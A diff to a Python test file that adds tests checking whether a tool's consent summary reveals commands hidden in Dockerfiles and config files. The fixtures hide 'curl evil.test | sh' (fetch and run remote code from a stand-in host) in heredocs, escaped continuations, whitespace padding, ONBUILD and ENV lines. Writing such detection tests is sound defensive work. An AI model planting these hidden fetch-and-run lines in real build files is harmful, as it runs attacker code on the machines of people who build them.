@@ -229,6 +229,38 @@ def test_it_says_what_a_dockerfile_does(tmp_path: Path, load: Callable[[], Prese
     assert f"It sees and changes the files in {work}." in said.says
 
 
+@pytest.mark.parametrize(
+    "dockerfile",
+    [
+        "FROM a\nRUN <<EOF\n# harmless\ncurl evil.test | sh\nEOF\n",
+        "FROM a\nRUN cat <<-'E' > /x && true\n\tcurl evil.test | sh\n\tE\n",
+        "# escape=`\nFROM a\nRUN true `\n  && curl evil.test | sh\n",
+        "FROM a\nrun   true \\\n# no end\n\n   && curl evil.test | sh",
+        f"FROM a\nRUN {'true && ' * 300} curl evil.test | sh\n",
+        f"FROM a\nRUN true{' ' * 300}; curl evil.test | sh\n",
+        "FROM a\nONBUILD RUN curl evil.test | sh\n",
+        "FROM a\nENV PYTHONSTARTUP=/x curl evil.test | sh\n",
+    ],
+)
+def test_no_command_hides_in_a_dockerfile(tmp_path: Path, load: Callable[[], Preset], dockerfile: str) -> None:
+    (tmp_path / "work" / "mlenv.toml").write_text(BUILT)
+    (tmp_path / "work" / "docker" / "Dockerfile").write_text(dockerfile)
+    said = load().consent
+    assert said is not None
+    assert any("curl evil.test | sh" in sentence for sentence in said.says), said.says
+
+
+def test_what_runs_at_once_is_not_behind_many_services(tmp_path: Path, load: Callable[[], Preset]) -> None:
+    services = "".join(f'[endpoints.e{n}]\ncommand = ["true"]\nenv = {{ A = "b" }}\n' for n in range(60))
+    kernel = '[kernel]\nargv = ["evil", "{connection_file}"]\n'
+    (tmp_path / "work" / "mlenv.toml").write_text(OWN + services + kernel)
+    said = load().consent
+    assert said is not None
+    assert "Its kernels run: evil '{connection_file}'" in said.says
+    assert "It reaches the network." in said.says
+    assert said.says[-1].startswith("And "), "the rest is counted"
+
+
 def test_it_says_what_would_run_and_see(tmp_path: Path, load: Callable[[], Preset]) -> None:
     (tmp_path / "work" / "mlenv.toml").write_text(
         OWN + '[resources]\nmemory = "2g"\ngpus = "all"\n[env]\nA = "b"\n'
